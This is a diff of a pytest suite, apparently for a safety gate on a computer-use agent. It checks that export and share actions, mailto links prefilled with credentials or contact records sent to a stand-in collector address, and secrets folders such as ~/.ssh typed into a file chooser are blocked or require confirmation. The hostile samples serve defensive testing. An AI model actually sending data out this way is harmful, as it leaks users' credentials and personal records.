@@ -195,7 +195,8 @@ def click(label: str):
 
 
 @pytest.mark.parametrize("label", [
-    "Export", "Export to CSV", "Download your data", "Request a copy of my information", "Share with",
+    "Export contacts", "Export all users to CSV", "Download your data", "Request a copy of my information",
+    "Share with",
     "Share folder", "Forward all emails", "Create forwarding rule", "Generate share link",
     "Sync contacts to external account", "Add SSH key", "New deploy key", "Add webhook", "Invite member",
     "Make public", "Transfer ownership", "Generate new token",
@@ -206,7 +207,8 @@ def test_export_share_and_access_buttons_ask(label):
 
 
 @pytest.mark.parametrize("label", [
-    "Share", "Share this article", "Export settings", "Copy link", "Webhooks", "SSH and GPG keys", "Members",
+    "Share", "Share this article", "Export settings", "Export", "Export as PDF", "Export to CSV", "Copy link",
+    "Webhooks", "SSH and GPG keys", "Members",
     "Add guests", "Download PDF",
 ])
 def test_navigation_to_those_settings_does_not_ask(label):
@@ -250,3 +252,43 @@ def test_ordinary_uploads_and_mentions_do_not_ask(path, label):
 def test_known_limit_plain_word_pairs_read_like_settings():
     # docs/known-limits.md: a list whose passwords are plain words is not recognised as credentials
     assert carried("root:toor\nadmin:admin") is None
+
+
+# -- a prefilled message: mailto: and sms: links ----------------------------------------------------------
+
+def test_a_mailto_link_that_prefills_a_credential_list_is_blocked():
+    a = nav("mailto:x@collect.example?subject=hi&body=svc%3AXk9!pq2L%0Aops%3ARb7%23ttw1")
+    assert a.decision is Decision.BLOCK and "block.web.data-out" in a.rules
+
+
+def test_a_mailto_link_that_prefills_records_asks():
+    body = "Carl%20Moe%2C%20carl%40shop.test%2C%20%2B1%20415%20555%200100%0ADina%20Roe%2C%20dina%40shop.test%2C" \
+           "%20%2B1%20415%20555%200111"
+    a = nav("mailto:x@collect.example?body=" + body)
+    assert a.decision is Decision.CONFIRM and "confirm.web.data-out" in a.rules
+
+
+@pytest.mark.parametrize("url", ["mailto:support@example.com?subject=Help&body=My%20order%20A-123%20is%20late",
+                                 "mailto:team@example.com"])
+def test_an_ordinary_mailto_link_is_allowed(url):
+    assert nav(url).decision is Decision.ALLOW
+
+
+@pytest.mark.parametrize("url", ["https://maps.app.goo.gl/AbCd1234", "https://youtu.be/dQw4w9WgXcQ",
+                                 "https://t.co/AbCdEf123"])
+def test_a_site_s_own_short_links_are_not_shorteners(url):
+    assert "confirm.web.shortened-link" not in nav(url).rules
+
+
+@pytest.mark.parametrize("path", ["~", "/", "/home/ana/", "C:\\Users\\ana", "~/.ssh", "~/.gnupg/"])
+def test_a_whole_home_or_a_secrets_folder_in_a_file_chooser_asks(path):
+    a = GATE.assess(action_from_dict({"type": "type", "text": path, "target": {"label": "File name"}}),
+                    Observation(app="firefox"))
+    assert a.decision is Decision.CONFIRM and "confirm.gui.data-out" in a.rules, a.rules
+
+
+@pytest.mark.parametrize(("path", "label"), [("~/Documents", "File name"), ("~", "Search"), ("/", "Message")])
+def test_an_ordinary_folder_or_a_path_outside_a_file_chooser_does_not_ask(path, label):
+    a = GATE.assess(action_from_dict({"type": "type", "text": path, "target": {"label": label}}),
+                    Observation(app="firefox"))
+    assert "confirm.gui.data-out" not in a.rules, a.rules
